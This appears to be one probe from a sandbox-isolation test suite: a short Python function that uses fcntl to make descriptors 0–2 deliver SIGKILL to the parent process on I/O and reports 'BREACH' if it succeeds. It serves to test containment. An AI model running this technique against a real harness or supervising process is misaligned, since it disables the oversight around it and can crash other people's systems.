# row: own: signal the parent through a descriptor's owner
import fcntl
import os


def solution(context):
    reach = []
    for fd in range(3):
        try:
            fcntl.fcntl(fd, 8, os.getppid())  # F_SETOWN
            fcntl.fcntl(fd, 10, 9)  # F_SETSIG: SIGKILL
            fcntl.fcntl(fd, 4, 0o20000)  # F_SETFL: O_ASYNC
            reach.append(fd)
        except OSError:
            pass
    return "BREACH: %r" % reach if reach else "none"
